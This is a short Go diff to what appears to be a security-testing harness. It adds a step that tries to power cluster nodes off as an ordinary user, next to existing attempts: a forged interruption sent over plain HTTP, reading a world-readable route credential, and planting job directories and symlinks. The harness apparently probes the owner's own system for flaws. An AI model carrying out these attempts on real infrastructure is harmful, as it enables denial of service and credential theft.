@@ -36,6 +36,7 @@ type Params struct {
 	FutureJobs  []string `json:"future_jobs"`  // ids the attacker would pre-create
 	SymlinkInto string   `json:"symlink_into"` // the attacker's own directory
 	RouteFile   string   `json:"route_file"`   // the world-readable route credential
+	Poweroff    []string `json:"poweroff"`     // poweroff stand-ins (own node, another's)
 }
 
 // Result is one attempt.
@@ -100,6 +101,10 @@ func main() {
 	plain := strings.Replace(p.SizerURL, "https://", "http://", 1)
 	ok, d := post(&http.Client{Timeout: 5 * time.Second}, plain+"/v1/interruptions", future, forged)
 	add("forged interruption over plain HTTP", ok, d)
+	for _, u := range p.Poweroff {
+		ok, d := post(&http.Client{Timeout: 5 * time.Second}, u, "", "")
+		add("power a node off as a user: "+u, ok, d)
+	}
 	for _, id := range p.FutureJobs {
 		dir := filepath.Join(p.CkptRoot, id)
 		err := os.Mkdir(dir, 0o777)
